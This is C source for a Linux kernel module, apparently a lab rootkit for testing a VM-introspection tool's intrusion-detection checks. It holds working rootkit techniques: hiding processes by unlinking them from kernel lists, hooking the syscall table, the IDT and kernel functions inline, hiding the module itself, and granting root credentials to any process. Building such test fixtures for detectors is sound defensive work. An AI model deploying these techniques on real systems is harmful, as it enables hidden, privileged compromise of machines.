// SPDX-License-Identifier: GPL-2.0
/*
 * A test rootkit for vmsight's lab guests. It does, for real, what the
 * intrusion-detection checks look for, so that each check is tested on a
 * real kernel rather than on a mock:
 *
 *   hide_pid=N tl=ADDR
 *                  unlink process N from the task list (it stays in the
 *                  pid table, so /proc still lists it), holding
 *                  tasklist_lock (ADDR from /proc/kallsyms: it is not
 *                  exported to modules);
 *   unhash=N       with tl=ADDR too: unlink process N (single-threaded)
 *                  from the task list and from every pid link, so that
 *                  neither ps-style walkers nor /proc nor kill(2) find
 *                  it; it keeps running, on its run queue;
 *   sct=ADDR nr=N  point sys_call_table[N] (ADDR from /proc/kallsyms) at
 *                  this module's code, written through a vmap() alias
 *                  because the table is read-only;
 *   idt=ADDR vec=N point gate N of idt_table (ADDR from /proc/kallsyms)
 *                  at this module's code, through a vmap() alias; the
 *                  vector must be one nothing raises in the guest;
 *   ihook=ADDR     write a jump to this module's code over the first
 *                  instruction of the function at ADDR (from
 *                  /proc/kallsyms; after its ENDBR64 if it has one),
 *                  through a vmap() alias of the text page: an inline
 *                  hook;
 *   hide=1         unlink this module from the modules list;
 *   hide_sysfs=1   and remove its kobject from /sys/module (module_kset)
 *                  too, so that only its memory still knows it;
 *   nf=1           register an IPv4 netfilter hook (accepts everything);
 *   ft=1           register an ftrace callback filtered to
 *                  cmdline_proc_show (does nothing; the __x64_sys_*
 *                  wrappers are not traceable on these kernels);
 *   kp=1           register a kprobe on version_proc_show (does nothing);
 *   cred_share=N   give process N init's own credentials (init_cred,
 *                  shared: the pointer, not a copy);
 *   cred_copy=N    give process N a fresh copy of init's credentials, as
 *                  commit_creds(prepare_kernel_cred()) does for the
 *                  calling process.
 *
 * Busybox's insmod retries with init_module() when finit_module() fails,
 * so a failing init runs twice; every step must succeed.
 *
 * Never load it outside a throw-away guest: it cannot be unloaded.
 */
#include <linux/cred.h>
#include <linux/ftrace.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/kobject.h>
#include <linux/list.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/vmalloc.h>
#include <asm/desc_defs.h>
#include <net/net_namespace.h>

static int hide_pid;
module_param(hide_pid, int, 0);
static unsigned long tl;
module_param(tl, ulong, 0);
static int unhash;
module_param(unhash, int, 0);
static unsigned long sct;
module_param(sct, ulong, 0);
static int nr = -1;
module_param(nr, int, 0);
static unsigned long idt;
module_param(idt, ulong, 0);
static int vec = -1;
module_param(vec, int, 0);
static unsigned long ihook;
module_param(ihook, ulong, 0);
static bool hide;
module_param(hide, bool, 0);
static bool hide_sysfs;
module_param(hide_sysfs, bool, 0);
static bool nf;
module_param(nf, bool, 0);
static bool ft;
module_param(ft, bool, 0);
static bool kp;
module_param(kp, bool, 0);
static int cred_share;
module_param(cred_share, int, 0);
static int cred_copy;
module_param(cred_copy, int, 0);

static int rk_pre(struct kprobe *p, struct pt_regs *regs)
{
	return 0;
}

static struct kprobe rk_kprobe = {
	.symbol_name = "version_proc_show",
	.pre_handler = rk_pre,
};

static void rk_trace(unsigned long ip, unsigned long parent_ip,
		     struct ftrace_ops *op, struct ftrace_regs *fregs)
{
}

static struct ftrace_ops rk_fops = {
	.func = rk_trace,
};

static int hook_ftrace(void)
{
	static unsigned char name[] = "cmdline_proc_show";
	int err = ftrace_set_filter(&rk_fops, name, sizeof(name) - 1, 0);

	return err ? err : register_ftrace_function(&rk_fops);
}

typedef long (*sys_fn)(const struct pt_regs *);
static sys_fn orig;

/* The replacement entry: passes every call on unchanged. */
static long rk_hook(const struct pt_regs *regs)
{
	return orig(regs);
}

/* Never run: only its address matters. */
static void rk_gate(void)
{
	pr_info("vmsight_rk: gate\n");
}

static int hook_idt(void)
{
	gate_desc *slot = (gate_desc *)idt + vec;
	struct page *pg = virt_to_page(slot);
	void *alias = vmap(&pg, 1, VM_MAP, PAGE_KERNEL);
	unsigned long fn = (unsigned long)rk_gate;
	gate_desc *g;

	if (!alias)
		return -ENOMEM;
	g = alias + offset_in_page(slot);
	g->offset_low = (u16)fn;
	g->offset_middle = (u16)(fn >> 16);
	g->offset_high = (u32)(fn >> 32);
	vunmap(alias);
	return 0;
}

/* The inline hook's target: the hooked system call now fails. */
static long rk_inline(const struct pt_regs *regs)
{
	return -EPERM;
}

static int hook_inline(void)
{
	static const unsigned char endbr64[4] = { 0xf3, 0x0f, 0x1e, 0xfa };
	unsigned char *site = (unsigned char *)ihook;
	unsigned char *alias;
	struct page *pg;
	s32 rel;

	if (!memcmp(site, endbr64, sizeof(endbr64)))
		site += sizeof(endbr64);
	if (offset_in_page(site) > PAGE_SIZE - 5)
		return -EINVAL;
	rel = (s32)((long)rk_inline - (long)(site + 5));
	pg = virt_to_page(site);
	alias = vmap(&pg, 1, VM_MAP, PAGE_KERNEL);
	if (!alias)
		return -ENOMEM;
	alias[offset_in_page(site)] = 0xe9; /* jmp rel32 */
	memcpy(alias + offset_in_page(site) + 1, &rel, sizeof(rel));
	vunmap(alias);
	return 0;
}

static unsigned int rk_nf(void *priv, struct sk_buff *skb,
			  const struct nf_hook_state *state)
{
	return NF_ACCEPT;
}

static struct nf_hook_ops rk_ops = {
	.hook = rk_nf,
	.pf = NFPROTO_IPV4,
	.hooknum = NF_INET_PRE_ROUTING,
	.priority = NF_IP_PRI_FIRST,
};

static int hook_syscall(void)
{
	unsigned long *slot = (unsigned long *)sct + nr;
	struct page *pg = virt_to_page(slot);
	void *alias = vmap(&pg, 1, VM_MAP, PAGE_KERNEL);

	if (!alias)
		return -ENOMEM;
	orig = (sys_fn)*slot;
	*(unsigned long *)(alias + offset_in_page(slot)) =
		(unsigned long)rk_hook;
	vunmap(alias);
	return 0;
}

/* The task of process @pid, with a reference, or NULL. */
static struct task_struct *get_task(int pid)
{
	struct task_struct *t;

	rcu_read_lock();
	t = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (t)
		get_task_struct(t);
	rcu_read_unlock();
	return t;
}

static int hide_task(void)
{
	struct task_struct *t = get_task(hide_pid);

	if (!t)
		return -ESRCH;
	write_lock_irq((rwlock_t *)tl);
	list_del_init(&t->tasks);
	write_unlock_irq((rwlock_t *)tl);
	put_task_struct(t);
	return 0;
}

/* The task stays unhashed for good: it must never exit, since
 * detach_pid() would unlink it a second time. */
static int unhash_task(void)
{
	struct task_struct *t = get_task(unhash);
	enum pid_type type;

	if (!t)
		return -ESRCH;
	write_lock_irq((rwlock_t *)tl);
	list_del_init(&t->tasks);
	for (type = PIDTYPE_PID; type < PIDTYPE_MAX; type++)
		hlist_del_init_rcu(&t->pid_links[type]);
	write_unlock_irq((rwlock_t *)tl);
	put_task_struct(t);
	return 0;
}

/* Replace another process's credentials, both the objective (real_cred)
 * and the subjective (cred) pointer. The old ones are leaked: a rootkit
 * does not care. */
static int give_root(int pid, bool share)
{
	struct task_struct *t = get_task(pid);
	const struct cred *new;

	if (!t)
		return -ESRCH;
	new = share ? get_cred(init_task.real_cred)
		    : prepare_kernel_cred(&init_task);
	if (!new) {
		put_task_struct(t);
		return -ENOMEM;
	}
	get_cred(new);		/* one reference for each pointer */
	rcu_assign_pointer(t->real_cred, new);
	rcu_assign_pointer(t->cred, new);
	put_task_struct(t);
	return 0;
}

static int __init rk_init(void)
{
	int err = 0;

	if (hide_pid > 0 && tl && (err = hide_task()))
		return err;
	if (unhash > 0 && tl && (err = unhash_task()))
		return err;
	if (sct && nr >= 0 && nr < 512 && (err = hook_syscall()))
		return err;
	if (idt && vec >= 0 && vec < 256 && (err = hook_idt()))
		return err;
	if (nf && (err = nf_register_net_hook(&init_net, &rk_ops)))
		return err;
	if (ft && (err = hook_ftrace()))
		return err;
	if (kp && (err = register_kprobe(&rk_kprobe)))
		return err;
	if (cred_share > 0 && (err = give_root(cred_share, true)))
		return err;
	if (cred_copy > 0 && (err = give_root(cred_copy, false)))
		return err;
	if (ihook && (err = hook_inline()))
		return err;
	if (hide)
		list_del_init(&THIS_MODULE->list);
	if (hide_sysfs)
		kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}

module_init(rk_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmsight lab: rootkit behaviours for detection tests");
